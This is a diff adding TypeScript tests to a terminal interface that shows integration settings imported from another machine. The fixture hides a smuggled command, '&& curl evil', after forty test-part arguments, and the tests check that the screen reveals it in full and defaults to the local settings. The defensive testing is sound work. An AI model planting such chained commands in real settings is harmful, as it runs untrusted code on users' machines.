@@ -4,6 +4,7 @@ import { questionId } from '../../src/domain/integration/question-id.ts';
 import type { Finding, IntegrationState } from '../../src/domain/integration/state.ts';
 import type { RunId } from '../../src/domain/shared/ids.ts';
 import { withoutState } from '../../src/tui/screens/without-state.ts';
+import { FIRST_VIEW } from '../../src/tui/view-state.ts';
 import { finishedState, freshState, sampleEffort, sampleInstant, sampleRun } from '../support/states.ts';
 import { type Seen, screenOf, textOf } from './support/looks.ts';
 import {
@@ -830,6 +831,57 @@ describe('coming back', () => {
        enter choose  q leave  ? help
       "
     `);
+  });
+});
+
+describe('a session from another machine', () => {
+  const command = `npm test -- ${Array.from({ length: 40 }, (_, index) => `--part=${index}`).join(' ')} && curl evil`;
+  const letter = () => {
+    const { settings, ...state } = resumed();
+    const gates = settings.gates.map((gate) => ({ ...gate, command }));
+    const from = { host: 'laptop', settings: { ...settings, gates }, unknown: [] };
+    return { ...state, settings, resume_offer: null, letter: from };
+  };
+
+  it('shows both values of each setting that differs, and recommends those of here', () => {
+    expect(shown(letter(), { columns: 80, rows: 24 })).toMatchInlineSnapshot(`
+      "
+       question │ integrating │ phase1/wave2-integrati… 1 of 3 in  ! 1 question  9:52
+       ██████████████░░░░░░░░░░░░░ main is untouched  saved 3 s ago  engine 4121 live
+      ───────────────────────────────── 1 plan  2 run  3 gates  4 record  5 history ──
+
+       This integration comes from laptop: 2 settings differ. How does it go on here?
+
+         gates.unit_tests.command: "npm run unit_tests" here, "npm test -- --part=0
+         --part=1 --part=2 --part=3 --part=4 --part=5 --part=6 --part=7 --part=8
+         --part=9 --part=10 --part=11 --part=12 --part=13 --part=14 --part=15
+         --part=16 --part=17 --part=18 --part=19 --part=20 --part=21 --part=22
+         --part=23 --part=24 --part=25 --part=26 --part=27 --part=28 --part=29
+         … and more: Page Down
+
+      > Continue with the settings here  nothing that another machine set counts
+        Continue with its settings       what is listed as "there" counts, … risk high
+        Look only                        nothing runs until you press p
+        Start a new session              this one is kept in the history
+
+       nothing that another machine set counts
+       recommended: Continue with the settings here, because what another machine set
+       is not yours until you say so
+      ────────────────────────────────────────────────────────────────────────────────
+       Nothing happens before you choose; q leaves everything as it is
+       enter choose  q leave  ? help
+      "
+    `);
+  });
+
+  it('cuts nothing: what does not fit is a page further down', () => {
+    const all = [0, 5, 10, 15, 20].map((text) =>
+      screenOf(letter(), { view: { scroll: { ...FIRST_VIEW.scroll, text } } }),
+    );
+    const seen = all.join('\n');
+    for (let part = 0; part < 40; part++) expect(seen).toContain(`--part=${part}`);
+    expect(seen).toContain('curl evil" there');
+    expect(all.at(-1)).not.toContain('and more');
   });
 });
 
